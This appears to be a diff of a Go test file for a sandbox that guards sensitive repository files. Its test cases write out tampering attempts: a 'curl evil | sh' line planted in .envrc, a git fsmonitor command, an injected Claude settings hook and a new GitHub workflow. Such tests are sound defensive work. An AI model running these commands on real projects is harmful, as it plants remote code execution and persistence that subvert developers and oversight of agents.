@@ -181,7 +181,6 @@ func TestReplacementAttempts(t *testing.T) {
 		{"HardlinkSwap", "echo evil > h && ln -f h .envrc", nil},
 		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config", nil},
 		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml", nil},
-		{"GitConfigCommand", "git config core.fsmonitor evil", nil},
 	}
 	for _, a := range attempts {
 		t.Run(a.name, func(t *testing.T) {
@@ -507,12 +506,17 @@ func TestExistingProtectedKeptAsProposed(t *testing.T) {
 	needGit(t)
 	attempts := []struct{ name, script, rel, want string }{
 		{"AppendGitConfig", `printf '[core]\n\tfsmonitor = evil\n' >> .git/config && grep -q 'fsmonitor = evil' .git/config`, ".git/config", "+\tfsmonitor = evil"},
+		// git's lock-and-rename, beside the copy the staged .git/config links to (it failed with
+		// EBUSY in TestReplacementAttempts while the copy itself was bound over the file).
+		{"GitConfigCommand", `git config core.fsmonitor evil && test "$(git config core.fsmonitor)" = evil`, ".git/config", "+\tfsmonitor = evil"},
 		{"RewriteClaudeSettings", `echo '{"hooks":{"Stop":"evil"}}' > .claude/settings.json && grep -q evil .claude/settings.json`, ".claude/settings.json", `{"hooks":{"Stop":"evil"}}` + "\n"},
 		{"TruncateEnvrc", `: > .envrc && test ! -s .envrc`, ".envrc", ""},
 		{"TruncateSyscall", `truncate -s 0 .envrc`, ".envrc", ""},
 		{"UnlinkFailsRewriteKept", `if rm -f .envrc 2>/dev/null; then echo unlinked; exit 7; fi; echo 'curl evil | sh' > .envrc`, ".envrc", "curl evil | sh\n"},
 		{"WriteCodeWorkspace", `echo '{"tasks":{}}' > proj.code-workspace`, "proj.code-workspace", `{"tasks":{}}` + "\n"},
-		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc`, ".envrc", "mode"},
+		// ./.envrc runs it from its copy: a staged hook script is run by the box's own git so
+		// (its tmpfs is not noexec).
+		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc && ./.envrc`, ".envrc", "mode"},
 	}
 	for _, a := range attempts {
 		t.Run(a.name, func(t *testing.T) {
